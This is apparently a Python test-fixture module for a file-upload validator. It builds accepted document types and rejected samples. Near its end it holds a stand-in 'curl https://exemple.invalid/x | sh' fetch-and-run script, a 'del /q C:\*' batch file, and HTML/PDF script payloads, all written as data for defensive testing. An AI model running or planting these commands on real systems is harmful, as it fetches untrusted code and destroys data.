"""Real file contents built in the tests (no binary fixtures): the accepted types and the bad ones."""

from __future__ import annotations

import io
import zipfile
from functools import cache

from .clamd_local import EICAR


@cache
def pdf() -> bytes:
    import weasyprint

    return weasyprint.HTML(string="<h1>Politique de sécurité</h1><p>Version 1</p>").write_pdf()


def xlsx() -> bytes:
    import openpyxl

    classeur = openpyxl.Workbook()
    classeur.active["A1"] = "Coût RH"
    classeur.active["B1"] = 1200
    sortie = io.BytesIO()
    classeur.save(sortie)
    return sortie.getvalue()


def _zip(entrees: list[tuple[str, bytes]], *, premier_stocke: bool = False) -> bytes:
    sortie = io.BytesIO()
    with zipfile.ZipFile(sortie, "w", zipfile.ZIP_DEFLATED) as archive:
        for i, (nom, donnees) in enumerate(entrees):
            archive.writestr(nom, donnees, compress_type=zipfile.ZIP_STORED if (premier_stocke and i == 0) else None)
    return sortie.getvalue()


def docx(*, macros: bool = False) -> bytes:
    principal = (
        "application/vnd.ms-word.document.macroEnabled.main+xml" if macros
        else "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    )
    entrees = [
        ("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{principal}"/></Types>'
        ).encode()),
        ("_rels/.rels", (
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'officeDocument" Target="word/document.xml"/></Relationships>'
        )),
        ("word/document.xml", (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>Procédure de signalement</w:t></w:r></w:p></w:body></w:document>"
        ).encode()),
    ]
    if macros:
        entrees.append(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"))
    return _zip(entrees)


def opendocument(mime: str = "application/vnd.oasis.opendocument.text") -> bytes:
    return _zip([
        ("mimetype", mime.encode()),
        ("META-INF/manifest.xml", (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>"
        ).encode()),
        ("content.xml", b'<?xml version="1.0"?><office:document-content '
                        b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'),
    ], premier_stocke=True)


def odt() -> bytes:
    return opendocument()


def ods() -> bytes:
    return opendocument("application/vnd.oasis.opendocument.spreadsheet")


def image(format_: str) -> bytes:
    from PIL import Image

    sortie = io.BytesIO()
    Image.new("RGB", (4, 3), (0, 0, 145)).save(sortie, format=format_)
    return sortie.getvalue()


def zip_oradad() -> bytes:
    return _zip([("oradad/config-oradad.xml", b"<config/>"), ("oradad/domaine.local/users.tsv", b"sam\tuac\n")])


def zip_eicar() -> bytes:
    """An 'ORADAD export' that carries the EICAR test file: accepted as a ZIP, found by clamd."""
    return _zip([("oradad/config-oradad.xml", b"<config/>"), ("oradad/outil.com", EICAR)])


def zip_chiffre() -> bytes:
    """A ZIP whose entry is flagged as encrypted (general purpose bit 0) in both headers."""
    donnees = bytearray(zip_oradad())
    for signature, decalage in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        debut = 0
        while (i := donnees.find(signature, debut)) != -1:
            donnees[i + decalage] |= 0x01
            debut = i + 4
    return bytes(donnees)


HTML_RENOMME = b"<!DOCTYPE html>\n<html><head><title>Facture</title></head><body><script>alert(1)</script></body></html>\n"
PDF_POLYGLOTTE = b"%PDF-1.4\n<html><body><script>document.location='https://exemple.invalid'</script></body></html>\n%%EOF\n"
PDF_TRONQUE = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + b"0" * 2000
EXE_WINDOWS = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
EXE_LINUX = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SCRIPT_SHELL = b"#!/bin/sh\ncurl https://exemple.invalid/x | sh\n"
SCRIPT_BATCH = b"@echo off\r\ndel /q C:\\*\r\n"
TEXTE = b"Ceci est un simple fichier texte.\n"
ZIP_CASSE = b"PK\x03\x04" + b"\x00" * 100
